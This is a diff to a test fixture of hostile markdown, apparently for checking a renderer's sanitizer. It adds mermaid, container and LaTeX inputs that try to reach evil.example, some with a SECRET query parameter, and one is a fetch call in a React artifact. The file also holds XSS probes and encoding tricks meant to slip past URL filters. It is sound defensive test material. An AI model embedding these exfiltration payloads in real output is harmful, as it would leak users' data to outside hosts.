@@ -131,6 +131,17 @@ export const hostileMarkdown: Readonly<Record<string, string>> = {
     '```mermaid\n%%{init: {"fontFamily": "x;background:url(https:evil.example/p.png?q=SECRET)"}}%%\nflowchart TD\nA[a]\n```',
   'a diagram with settings in front':
     '```mermaid\n---\nconfig:\n  fontFamily: "x;background:url(https:evil.example/p.png)"\n---\nflowchart TD\nA[a]\n```',
+  'a diagram in a container':
+    ':::mermaid\nflowchart TD\nA@{ img: \'https:evil.example/p.png?q=SECRET\' }\n:::\n\n> ::: mermaid\n> flowchart TD\n> click A href "/\\evil.example"\n> :::',
+  'a program in a container':
+    ':::artifact{type="application/vnd.react" title="x"}\n```\nfetch("https:evil.example/?q=SECRET")\n```\n:::',
+  'a diagram with two slashes, which a space does not part':
+    '```mermaid\nflowchart TD\nA@{ img: "//x.evil.example/p.png" }\nB@{ img: "// x.evil.example/p.png" }\n```',
+  'a diagram with slashes on two lines': '```mermaid\nflowchart TD\nA[a]\nclick A href "/\n/evil.example"\n```',
+  'a diagram with sockets and letters':
+    '```mermaid\nflowchart TD\nA@{ img: ws:evil.example/p }\nclick A href "mailto:a@evil.example"\n```',
+  'a diagram with percents of a colon and slashes':
+    '```mermaid\nsequenceDiagram\nparticipant A\nlink A: x @ https%3A%2F%2Fevil.example\nlink A: y @ https%253aevil.example\n```',
   'a diagram that is never closed': "```mermaid\nflowchart TD\nA@{ img: 'https:evil.example/p.png' }",
   'graphs with addresses without slashes':
     '```dot\ndigraph { a [URL="https:evil.example", image="http:/evil.example/p.png"] }\n```\n\n```plantuml\nBob -> A : [[https:evil.example x]]\n!include http:evil.example/x\n```\n\n```echarts\n{"series": [{"symbol": "image://https:evil.example/p.png"}], "x": "\\u0068ttps:evil.example"}\n```\n\n```d2\na: { icon: https:evil.example/p.png }\n```',
@@ -141,6 +152,8 @@ export const hostileMarkdown: Readonly<Record<string, string>> = {
     '$\\style{background:url(http:evil.example/p.png)}{x}$ \\(\\bbox[background-image:url(https:evil.example/p.png)]{y}\\)',
   'a formula with an element':
     '\\(\\mmlToken{mi}[href="https:evil.example"]{z}\\) $$\\mmlToken{mi}[href="/\\evil.example"]{z}$$',
+  'a formula with a colour':
+    '$\\definecolor{x}{named}{url(h\\74tps:evil.example)}\\color{x}y$ \\(\\color{u\\rl(ht\\tps:evil.example)}z\\)',
   'a formula that defines a command': '$\\def\\x{\\style}\\x{background:url(https:evil.example)}{y} \\require{html}$',
   'a formula behind two backslashes': '$$\na \\\\\\href{https:evil.example}{x}\n$$',
   'an element with an odd name': '<x_y onmouseover=alert(1)> <a.b onclick=x> <a= onclick=x> <a, onclick=x>',
